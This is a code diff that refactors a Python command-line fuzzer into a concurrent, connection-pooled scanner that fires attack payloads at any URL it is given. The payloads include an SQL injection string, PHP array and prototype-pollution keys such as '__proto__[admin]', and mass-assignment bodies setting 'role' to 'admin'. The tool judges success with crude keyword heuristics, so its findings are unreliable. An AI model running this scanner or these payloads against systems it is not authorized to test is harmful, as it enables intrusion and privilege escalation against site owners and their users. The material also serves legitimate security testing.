@@ -4,43 +4,123 @@ ADVANCED PARAMETER FUZZER - REAL VULNERABILITY DISCOVERY
 Tests for parameter pollution, type confusion, and advanced injection techniques
 """
 import requests
+from requests.adapters import HTTPAdapter
+from requests.exceptions import RequestException
+from urllib3.exceptions import HTTPError as TransportError
+import re
 import urllib.parse
 import json
 import time
 from concurrent.futures import ThreadPoolExecutor
+from functools import partial
 from datetime import datetime
+from _http import decode_body
+
+# Size of the keep-alive connection pool shared by every probe
+POOL_SIZE = 32
+
+# Probes in flight at once
+MAX_WORKERS = 20
+
+# Leading bytes of each response body the checks look at
+MAX_SNIFF_BYTES = 8192
+
+# Every keyword the checks look for, found in a single scan of the lowercased body.
+# The lookahead matches at every position, so keywords sharing an edge ("truerror") are all seen.
+INDICATOR_PATTERN = re.compile("(?=(admin|unauthorized|error|success|dashboard|privilege|true))")
+
+# Failures a single probe may hit: request errors, and urllib3 errors or socket
+# errors while reading the streamed body
+PROBE_ERRORS = (RequestException, TransportError, OSError)
 
 class AdvancedParameterFuzzer:
-    def __init__(self, target_url):
+    def __init__(self, target_url, exhaustive=False):
         self.target_url = target_url
+        self.exhaustive = exhaustive  # Keep probing a class after its first finding
         self.session = requests.Session()
+        adapter = HTTPAdapter(pool_connections=POOL_SIZE, pool_maxsize=POOL_SIZE, max_retries=0)
+        self.session.mount('http://', adapter)
+        self.session.mount('https://', adapter)
+        self.session.headers['Connection'] = 'keep-alive'
         self.vulnerabilities = []
+        self._confirmed = set()  # Vulnerability types already found
         
     def fuzz_all_parameters(self):
         """Comprehensive parameter fuzzing"""
         print(f"[*] Starting advanced parameter fuzzing on {self.target_url}")
         
-        # Test parameter pollution
-        self.test_parameter_pollution()
-        
-        # Test type confusion
-        self.test_type_confusion()
-        
-        # Test array/object injection
-        self.test_array_object_injection()
+        # Collect every probe up front and send them concurrently
+        probes = []
+        probes.extend(self._parameter_pollution_probes())
+        probes.extend(self._type_confusion_probes())
+        probes.extend(self._array_object_injection_probes())
+        probes.extend(self._prototype_pollution_probes())
+        probes.extend(self._mass_assignment_probes())
         
-        # Test prototype pollution
-        self.test_prototype_pollution()
-        
-        # Test mass assignment
-        self.test_mass_assignment()
+        print(f"[*] Sending {len(probes)} probes: parameter pollution, type confusion, "
+              "array/object injection, prototype pollution, mass assignment...")
+        self._run_probes(probes)
         
         return self.vulnerabilities
     
     def test_parameter_pollution(self):
         """Test HTTP Parameter Pollution (HPP)"""
         print("[*] Testing parameter pollution...")
-        
+        self._run_probes(self._parameter_pollution_probes())
+    
+    def test_type_confusion(self):
+        """Test type confusion vulnerabilities"""
+        print("[*] Testing type confusion...")
+        self._run_probes(self._type_confusion_probes())
+    
+    def test_array_object_injection(self):
+        """Test array/object injection"""
+        print("[*] Testing array/object injection...")
+        self._run_probes(self._array_object_injection_probes())
+    
+    def test_prototype_pollution(self):
+        """Test prototype pollution (JavaScript)"""
+        print("[*] Testing prototype pollution...")
+        self._run_probes(self._prototype_pollution_probes())
+    
+    def test_mass_assignment(self):
+        """Test mass assignment vulnerabilities"""
+        print("[*] Testing mass assignment...")
+        self._run_probes(self._mass_assignment_probes())
+    
+    def _run_probes(self, probes):
+        """Send probes concurrently, recording findings in probe order"""
+        # Probes already in flight can still confirm a class, so keep one finding per type here
+        recorded = {vulnerability["type"] for vulnerability in self.vulnerabilities}
+        with ThreadPoolExecutor(max_workers=MAX_WORKERS) as executor:
+            for vulnerability in executor.map(self._dispatch_probe, probes):
+                if vulnerability and (self.exhaustive or vulnerability["type"] not in recorded):
+                    recorded.add(vulnerability["type"])
+                    self.vulnerabilities.append(vulnerability)
+    
+    def _dispatch_probe(self, probe):
+        """Send one probe; return its vulnerability record if the check matches"""
+        method, body_kind, params, check, vulnerability = probe
+        if not self.exhaustive and vulnerability["type"] in self._confirmed:
+            # Class already confirmed, skip the rest of its probes
+            return None
+        try:
+            response = self.session.request(method, self.target_url, timeout=10, stream=True,
+                                            **{body_kind: params})
+            try:
+                if check(*self._snapshot(response)):
+                    self._confirmed.add(vulnerability["type"])
+                    return vulnerability
+            finally:
+                response.close()
+        except PROBE_ERRORS:
+            pass
+        return None
+    
+    # Each probe is (method, body kind, params, check, vulnerability record)
+    
+    def _parameter_pollution_probes(self):
+        """Probes for HTTP Parameter Pollution (HPP)"""
         test_cases = [
             # Duplicate parameters
             {"id": ["1", "2"]},
@@ -52,35 +132,18 @@ class AdvancedParameterFuzzer:
         ]
         
         for params in test_cases:
-            try:
-                # Test GET
-                response = self.session.get(self.target_url, params=params, timeout=10)
-                if self._check_hpp_vulnerability(response, params):
-                    self.vulnerabilities.append({
-                        "type": "HTTP Parameter Pollution",
-                        "severity": "High",
-                        "url": self.target_url,
-                        "params": params,
-                        "method": "GET"
-                    })
-                
-                # Test POST
-                response = self.session.post(self.target_url, data=params, timeout=10)
-                if self._check_hpp_vulnerability(response, params):
-                    self.vulnerabilities.append({
-                        "type": "HTTP Parameter Pollution",
-                        "severity": "High",
-                        "url": self.target_url,
-                        "params": params,
-                        "method": "POST"
-                    })
-            except:
-                pass
+            check = partial(self._check_hpp_vulnerability, params=params)
+            for method, body_kind in (("GET", "params"), ("POST", "data")):
+                yield (method, body_kind, params, check, {
+                    "type": "HTTP Parameter Pollution",
+                    "severity": "High",
+                    "url": self.target_url,
+                    "params": params,
+                    "method": method
+                })
     
-    def test_type_confusion(self):
-        """Test type confusion vulnerabilities"""
-        print("[*] Testing type confusion...")
-        
+    def _type_confusion_probes(self):
+        """Probes for type confusion vulnerabilities"""
         test_cases = [
             # String to int
             {"id": "1' OR '1'='1"},
@@ -98,22 +161,15 @@ class AdvancedParameterFuzzer:
         ]
         
         for params in test_cases:
-            try:
-                response = self.session.post(self.target_url, json=params, timeout=10)
-                if self._check_type_confusion(response, params):
-                    self.vulnerabilities.append({
-                        "type": "Type Confusion",
-                        "severity": "High",
-                        "url": self.target_url,
-                        "params": params
-                    })
-            except:
-                pass
+            yield ("POST", "json", params, partial(self._check_type_confusion, params=params), {
+                "type": "Type Confusion",
+                "severity": "High",
+                "url": self.target_url,
+                "params": params
+            })
     
-    def test_array_object_injection(self):
-        """Test array/object injection"""
-        print("[*] Testing array/object injection...")
-        
+    def _array_object_injection_probes(self):
+        """Probes for array/object injection"""
         test_cases = [
             # PHP array injection
             {"user[role]": "admin"},
@@ -124,22 +180,15 @@ class AdvancedParameterFuzzer:
         ]
         
         for params in test_cases:
-            try:
-                response = self.session.post(self.target_url, data=params, timeout=10)
-                if self._check_privilege_escalation(response):
-                    self.vulnerabilities.append({
-                        "type": "Array/Object Injection",
-                        "severity": "Critical",
-                        "url": self.target_url,
-                        "params": params
-                    })
-            except:
-                pass
+            yield ("POST", "data", params, self._check_privilege_escalation, {
+                "type": "Array/Object Injection",
+                "severity": "Critical",
+                "url": self.target_url,
+                "params": params
+            })
     
-    def test_prototype_pollution(self):
-        """Test prototype pollution (JavaScript)"""
-        print("[*] Testing prototype pollution...")
-        
+    def _prototype_pollution_probes(self):
+        """Probes for prototype pollution (JavaScript)"""
         test_cases = [
             {"__proto__[admin]": "true"},
             {"constructor[prototype][isAdmin]": "true"},
@@ -147,22 +196,15 @@ class AdvancedParameterFuzzer:
         ]
         
         for params in test_cases:
-            try:
-                response = self.session.post(self.target_url, json=params, timeout=10)
-                if self._check_prototype_pollution(response):
-                    self.vulnerabilities.append({
-                        "type": "Prototype Pollution",
-                        "severity": "Critical",
-                        "url": self.target_url,
-                        "params": params
-                    })
-            except:
-                pass
+            yield ("POST", "json", params, self._check_prototype_pollution, {
+                "type": "Prototype Pollution",
+                "severity": "Critical",
+                "url": self.target_url,
+                "params": params
+            })
     
-    def test_mass_assignment(self):
-        """Test mass assignment vulnerabilities"""
-        print("[*] Testing mass assignment...")
-        
+    def _mass_assignment_probes(self):
+        """Probes for mass assignment vulnerabilities"""
         test_cases = [
             {"role": "admin", "isAdmin": "true"},
             {"permissions": "all", "admin": "1"},
@@ -170,64 +212,67 @@ class AdvancedParameterFuzzer:
         ]
         
         for params in test_cases:
-            try:
-                response = self.session.post(self.target_url, json=params, timeout=10)
-                if self._check_privilege_escalation(response):
-                    self.vulnerabilities.append({
-                        "type": "Mass Assignment",
-                        "severity": "High",
-                        "url": self.target_url,
-                        "params": params
-                    })
-            except:
-                pass
-    
-    def _check_hpp_vulnerability(self, response, params):
+            yield ("POST", "json", params, self._check_privilege_escalation, {
+                "type": "Mass Assignment",
+                "severity": "High",
+                "url": self.target_url,
+                "params": params
+            })
+    
+    @staticmethod
+    def _snapshot(response):
+        """Status code, indicator keywords present and body length, from the start of the body"""
+        # Only the first MAX_SNIFF_BYTES are downloaded and decoded
+        raw = response.raw.read(MAX_SNIFF_BYTES, decode_content=True)
+        body = decode_body(raw, response).lower()
+        return response.status_code, set(INDICATOR_PATTERN.findall(body)), len(body)
+    
+    def _check_hpp_vulnerability(self, status, hits, length, params):
         """Check for HPP vulnerability indicators"""
         indicators = [
-            "admin" in response.text.lower(),
-            "unauthorized" not in response.text.lower(),
-            response.status_code == 200,
-            "error" not in response.text.lower()
+            "admin" in hits,
+            "unauthorized" not in hits,
+            status == 200,
+            "error" not in hits
         ]
         return sum(indicators) >= 2
     
-    def _check_type_confusion(self, response, params):
+    def _check_type_confusion(self, status, hits, length, params):
         """Check for type confusion indicators"""
         indicators = [
-            response.status_code == 200,
-            "admin" in response.text.lower(),
-            "success" in response.text.lower(),
-            len(response.text) > 100
+            status == 200,
+            "admin" in hits,
+            "success" in hits,
+            length > 100
         ]
         return sum(indicators) >= 2
     
-    def _check_privilege_escalation(self, response):
+    def _check_privilege_escalation(self, status, hits, length):
         """Check for privilege escalation indicators"""
         indicators = [
-            "admin" in response.text.lower(),
-            "dashboard" in response.text.lower(),
-            "privilege" in response.text.lower(),
-            response.status_code == 200
+            "admin" in hits,
+            "dashboard" in hits,
+            "privilege" in hits,
+            status == 200
         ]
         return sum(indicators) >= 2
     
-    def _check_prototype_pollution(self, response):
+    def _check_prototype_pollution(self, status, hits, length):
         """Check for prototype pollution indicators"""
         indicators = [
-            "admin" in response.text.lower(),
-            response.status_code == 200,
-            "true" in response.text.lower()
+            "admin" in hits,
+            status == 200,
+            "true" in hits
         ]
         return sum(indicators) >= 2
 
 if __name__ == "__main__":
     import sys
     if len(sys.argv) < 2:
-        print("Usage: python3 advanced_parameter_fuzzer.py <url>")
+        print("Usage: python3 advanced_parameter_fuzzer.py <url> [--exhaustive]")
         sys.exit(1)
     
-    fuzzer = AdvancedParameterFuzzer(sys.argv[1])
+    fuzzer = AdvancedParameterFuzzer(sys.argv[1], exhaustive="--exhaustive" in sys.argv[2:])
     vulns = fuzzer.fuzz_all_parameters()
     
     print(f"\n[+] Found {len(vulns)} potential vulnerabilities")